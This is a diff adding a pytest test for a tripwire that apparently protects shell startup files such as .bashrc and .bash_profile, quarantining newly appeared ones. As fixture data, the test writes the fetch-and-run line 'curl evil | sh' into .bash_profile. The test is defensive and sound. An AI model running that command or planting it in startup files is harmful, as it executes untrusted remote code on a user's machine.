@@ -376,3 +376,21 @@ def test_root_too_big_to_search_for_repositories_is_not_writable(ws: Path, tmp_p
         assert done.returncode != 0 and not (big / "x").exists() and not (big / "d29" / "repo" / ".git" / "config").exists()
     finally:
         protected.forget_git_scans()
+
+
+def test_tripwire_leaves_an_in_place_edit_alone_and_moves_a_new_name_aside(tmp_path: Path) -> None:
+    """An editor saving ~/.bashrc from outside (write a new file, rename it over) during a command
+    is not the command's doing (it cannot replace a read-only mount point): it stays. A protected
+    name that did not exist before is moved aside."""
+    from tui.safety.protected import Tripwire
+
+    bashrc, profile = tmp_path / ".bashrc", tmp_path / ".bash_profile"
+    bashrc.write_text("old\n")
+    tripwire = Tripwire([bashrc, profile])
+    (tmp_path / "tmp-save").write_text("new\n")
+    (tmp_path / "tmp-save").rename(bashrc)
+    profile.write_text("curl evil | sh\n")
+    notes = tripwire.check()
+    assert bashrc.read_text() == "new\n" and not profile.exists()
+    assert (tmp_path / ".bash_profile.codeloop-quarantine-1").read_text() == "curl evil | sh\n"
+    assert len(notes) == 1 and ".bash_profile is protected and appeared" in notes[0]
